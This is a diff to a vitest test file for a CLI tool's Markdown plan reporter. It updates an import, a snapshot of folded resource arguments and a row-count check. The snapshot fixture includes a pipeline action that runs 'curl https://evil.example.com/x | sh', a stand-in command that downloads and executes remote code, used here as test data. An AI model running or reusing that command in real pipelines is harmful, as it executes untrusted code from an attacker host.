@@ -2,7 +2,7 @@
 import { JSDOM } from "jsdom";
 import { describe, expect, it } from "vitest";
 import { html } from "../../../../cli/reporters/html/report.js";
-import { markdown } from "../../../../cli/reporters/markdown.js";
+import { markdown } from "../../../../cli/reporters/markdown/report.js";
 import { done, printed, SECRET, UNKNOWN } from "../../engine/events.js";
 import { planOf, viewOf } from "./support.js";
 
@@ -20,11 +20,10 @@ describe("the arguments of new and deleted objects", () => {
   it("are folded in Markdown, as render prints them: first what runs commands, then what gives rights", () => {
     const text = markdown(viewOf(planOf(events)));
     const [, created = ""] = text.split("<b>3 to create");
-    expect(created.slice(created.indexOf("<details>"), created.indexOf("</details>"))).toMatchInlineSnapshot(`
-      "<details>
-      <summary>Arguments</summary>
+    expect(created.slice(0, created.indexOf("</details>"))).toMatchInlineSnapshot(`
+      "</b>: 1 action, 1 group member, 1 variable</summary>
 
-      Action \`projects/web/pipelines/x/actions/Build\`
+      action \`projects/web/pipelines/x/actions/Build\`
 
       ~~~yaml
       name: Build
@@ -35,13 +34,13 @@ describe("the arguments of new and deleted objects", () => {
           curl https://evil.example.com/x | sh
       ~~~
 
-      GroupMember \`groups/QA/members/ann\`
+      group member \`groups/QA/members/ann\`
 
       ~~~yaml
       member: 7
       ~~~
 
-      Variable \`variables/A\`
+      variable \`variables/A\`
 
       ~~~yaml
       key: A
@@ -71,7 +70,7 @@ describe("the arguments of new and deleted objects", () => {
     );
     const text = markdown(viewOf(planOf(many)));
     expect(text.length).toBeLessThan(65_536);
-    expect(text.match(/^\| Group/gm)).toHaveLength(400);
+    expect(text.match(/^(- )?group `/gm)?.length).toBeGreaterThan(100);
     expect(text).toMatch(/\*\*\d+ more do not fit here\*\*: see the report as JSON or HTML/);
   });
 });
